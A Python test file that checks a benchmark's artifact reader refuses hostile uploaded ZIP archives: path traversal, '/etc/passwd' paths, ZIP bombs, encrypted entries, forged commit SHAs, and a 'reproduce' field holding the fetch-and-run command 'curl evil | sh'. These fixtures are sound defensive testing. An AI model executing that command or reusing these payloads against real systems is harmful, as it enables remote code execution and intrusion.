"""What is accepted of an artifact that may be anything: the measurement that was asked for."""

import functools
import json
import tracemalloc
import zipfile

import pytest

from benchmarks._engine.report.artifact import ArtifactError, Commits, NoGpuError
from benchmarks._engine.system.untrusted import plain
from benchmarks._engine.verdict.note import Note
from benchmarks._engine.verdict.rules import Answer
from tests.comparisons import (
    job_failing,
    job_of_code,
    job_of_worse_code,
    job_passing,
    of_the_same_sources,
    without_gpu,
)
from tests.engine.report.artifacts import (
    BASE,
    CODE_REQUEST,
    DIFFER,
    GPU,
    HEAD,
    METHOD,
    OFFSET,
    OTHER,
    REQUEST,
    SAME,
    archive,
    archive_of,
    changed,
    document,
    read,
    rewritten,
    streamed,
)

# --- the archive ----------------------------------------------------------------------------------

ONLY, UNREADABLE = "only comparison.json may be in it", "no archive can be read: "
ENTRY = functools.partial(rewritten, archive("{}"))
TWO = archive_of("comparison.json", "x")
MANY = archive_of(*map(str, range(20_000)))
NOT_UTF8 = archive("{}", "comparison.jsoé").replace("é".encode(), b"\xff\xff")
ZERO_IN_NAME = archive("{}", "comparison.json_evil").replace(b"_evil", b"\0evil")
CORRUPT = archive("{}" * 99).replace(archive("{}" * 99)[45:48], b"\xff\xff\xff")


REFUSED = {
    "missing file": (archive_of(), ONLY),
    "several files": (TWO, ONLY),
    "the same name twice": (archive_of("comparison.json", "./comparison.json"), ONLY),
    "climbing path": (archive("{}", "../comparison.json"), ONLY),
    "absolute path": (archive("{}", "/etc/passwd"), ONLY),
    "a directory": (archive("", "comparison.json/"), ONLY),
    "not an archive": (b"PK\3\4 no archive", UNREADABLE),
    "an empty file": (b"", UNREADABLE),
    "a name that is not UTF-8": (NOT_UTF8, f"{UNREADABLE}UnicodeDecodeError"),
    "a name with more behind a zero": (ZERO_IN_NAME, ONLY),
    "bz2": (archive("{}", kind=zipfile.ZIP_BZIP2), "is neither stored nor deflated"),
    "LZMA": (archive("{}", kind=zipfile.ZIP_LZMA), "is neither stored nor deflated"),
    "an unknown kind": (ENTRY(METHOD, 99), "is neither stored nor deflated"),
    "corrupt content": (CORRUPT, f"{UNREADABLE}error: Error -3 while decompressing"),
    "content before the archive": (ENTRY(OFFSET, 0xFFFFFFF0, 4), UNREADABLE),
    "many members": (MANY, ONLY),
    "a huge archive": (b"0" * 3_000_001, "the archive has more than 3000000 bytes"),
    "a ZIP bomb": (archive(b" " * 20_000_000), "has more than 4000000 bytes"),
    "not JSON": (archive("hello"), "no JSON: Expecting value"),
    "an unknown key": (archive(document(html="<b>")), r"comparison has unknown \['html'\]"),
}
OF_ANOTHER = {"name": OTHER, "sha": OTHER}
REFUSED |= {
    name: (archive(changed(path, value)), message)
    for name, path, value, message in (
        ("NaN", ["minutes"], float("nan"), "NaN is no number"),
        ("a wrong answer", ["answer"], "pass", "answer is 'pass', the rest says 'fail'"),
        ("a forged head", ["head"], OF_ANOTHER, f"commit {HEAD} was to be measured"),
        ("a forged base", ["base"], OF_ANOTHER, f"commit {BASE} was to be measured"),
        ("an abbreviated head", ["head", "sha"], HEAD[:10], f"commit {HEAD} was to be measured"),
        ("a name that is no SHA", ["head", "name"], "[main](https://evil)", f"commit {HEAD} was"),
        ("a command to be copied", ["reproduce"], "curl evil | sh", "it gives another command"),
    )
}


@pytest.mark.parametrize(("content", "message"), REFUSED.values(), ids=REFUSED)
def test_hostile_artifact_is_refused_and_nothing_is_unpacked(
    content, message, tmp_path, monkeypatch
):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ArtifactError, match=message):
        read(content)
    assert list(tmp_path.iterdir()) == []


def test_a_header_that_lies_about_the_size_gains_nothing():
    honest = archive(b" " * 10_000_000)
    lying = honest.replace((10_000_000).to_bytes(4, "little"), (100).to_bytes(4, "little"))
    assert lying != honest
    with pytest.raises(ArtifactError, match="no archive can be read: BadZipFile: Bad CRC"):
        read(lying)


@pytest.mark.parametrize("kind", [zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
@pytest.mark.parametrize("said", [None, 100])
def test_little_memory_is_spent_on_what_is_refused(kind, said):
    bomb = archive(b" " * 30_000_000, kind=kind)
    if said is not None:
        bomb = rewritten(bomb, 24, said, 4)
    tracemalloc.start()
    with pytest.raises(ArtifactError):
        read(bomb)
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert most < 2_000_000


@pytest.mark.parametrize(
    "content",
    [
        streamed(json.dumps(document())),
        archive(document(), kind=zipfile.ZIP_STORED),
    ],
)
def test_what_uploaders_write_is_read(content):
    assert read(content).answer is Answer.FAIL


def test_encrypted_archive_is_refused():
    content = bytearray(archive(document()))
    for signature, offset in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        content[content.index(signature) + offset] |= 1
    with pytest.raises(ArtifactError, match="is encrypted"):
        read(bytes(content))


# --- what was asked for ---------------------------------------------------------------------------


def lost_gpu(make=without_gpu, **machine):
    """As `compare` writes it where it finds no GPU: it compares what is exact, and that passes."""
    made = document(make, reproduce=REQUEST.command)
    made["machine"] |= machine
    return made


def without(family):
    made = document(job_passing)
    del made["families"][family]
    return made


def without_spread():
    made = document(job_passing)
    made["families"]["gpu"] |= {"mean": None, "spread": None}
    return made


def without_exact(prefix):
    exact = document(job_passing)["exact"]
    exact = [value for value in exact if not value["key"]["metric"].startswith(prefix)]
    return document(job_passing, exact=exact)


H200 = {"machine": GPU, "gpu": "NVIDIA H200"}
NO_GPU = "the GPU nvidia-h200 was not there"
CHANGED_TRITON = Commits(False, ("triton: another",))
# Of a lost GPU, of other commits than git has, of what the numbers do not say: none is a pass.
NOT_ASKED_FOR = {
    "no GPU": (lost_gpu(), f"{NO_GPU}, .* 'no-gpu-x86_64'"),
    "a GPU of that name and none": (lost_gpu(machine=GPU), NO_GPU),
    "another GPU": (lost_gpu(machine="nvidia-h100", gpu="H100"), f"{NO_GPU}, .* 'nvidia-h100'"),
    "a GPU of another name": (
        changed(["machine", "gpu"], "NVIDIA H200, measured again", job_passing),
        f"{NO_GPU}, only 'nvidia-h200', a GPU 'NVIDIA H200, measured again'",
    ),
    "a GPU by other letters": (changed(["machine", "gpu"], "NVIDIA H200 ✅", job_passing), NO_GPU),
    "a GPU, and no timing": (lost_gpu(**H200), "a pass lacks .*gpu timings, host timings, start"),
    "no GPU timing": (without("gpu"), "a pass lacks gpu timings"),
    "no host timing": (without("host"), "a pass lacks host timings"),
    "no start": (without("start"), "a pass lacks start timings"),
    "no spread": (without_spread(), "a pass lacks the spread of gpu timings"),
    "no machine code": (without_exact("codegen."), "a pass lacks codegen.Codegen.track_registers"),
    "no error": (without_exact("host.Error"), "a pass lacks host.Error.track_error"),
    "forged same sources": (document(of_the_same_sources), "has another package as the"),
    "same sources, not said": (document(job_passing), "has the same package as the base", SAME),
    "same sources, measured": (
        *(document(job_passing, same_sources=True), "so nothing was to be measured", SAME),
    ),
    "a change of Triton left out": (
        *(document(job_passing), "it leaves out what changed of what the package", CHANGED_TRITON),
    ),
}


@pytest.mark.parametrize("case", NOT_ASKED_FOR.values(), ids=NOT_ASKED_FOR)
def test_what_was_not_asked_for_is_refused(case):
    made, message, *by_git = case
    assert made["answer"] == "pass"  # by its own word
    with pytest.raises(ArtifactError, match=message):
        read(archive(made), *by_git)


def test_a_verdict_that_is_no_pass_may_lack_some():
    made = document(job_failing)
    del made["families"]["host"]
    assert read(archive(made)).answer is Answer.FAIL


def test_the_same_sources_pass_without_a_timing():
    assert read(archive(document(of_the_same_sources)), SAME).answer is Answer.PASS


def test_a_change_of_what_the_package_runs_on_is_no_pass():
    changes = ("triton: the base asks for 3.6, the head for 3.7",)
    notes = [plain(Note("requirement", change)) for change in changes]
    made = document(of_the_same_sources, unmeasured=notes, answer="cannot tell")
    assert read(archive(made), Commits(True, changes)).answer is Answer.CANNOT_TELL


# --- machine code alone ---------------------------------------------------------------------------

WRONG, A_TIMING = plain(Note("failed", "x")), plain(job_passing().timings[0].key)
TIMED = "it has what needs a GPU"
NOT_CODE_ALONE = {
    "a comparison on a GPU": (document(job_passing), TIMED),
    "an output that is wrong": (document(job_of_code, wrong=[WRONG], answer="fail"), TIMED),
    "a timing with the same code": (document(job_of_code, identical=[A_TIMING]), TIMED),
    "a GPU by name": (
        changed(["machine", "gpu"], "NVIDIA H200", job_of_code),
        "no GPU was to be used, it names 'NVIDIA H200'",
    ),
    "the command with a GPU": (
        document(job_of_code, reproduce=REQUEST.command),
        "it gives another command",
    ),
    "rounds that nothing was judged by": (document(job_of_code, rounds=12), TIMED),
    "no variants": (
        document(job_of_code, exact=document(job_of_code)["exact"][:1]),
        "a pass lacks .*codegen.Variants.track_variants",
    ),
}


def test_machine_code_alone_is_read_if_it_was_asked_for():
    assert read(archive(document(job_of_code)), DIFFER, CODE_REQUEST).answer is Answer.PASS
    worse = read(archive(document(job_of_worse_code)), DIFFER, CODE_REQUEST)
    assert worse.answer is Answer.FAIL
    with pytest.raises(NoGpuError, match=NO_GPU):
        read(archive(document(job_of_code)))


@pytest.mark.parametrize("case", NOT_CODE_ALONE.values(), ids=NOT_CODE_ALONE)
def test_what_is_not_machine_code_alone_is_refused(case):
    made, message = case
    with pytest.raises(ArtifactError, match=message):
        read(archive(made), DIFFER, CODE_REQUEST)
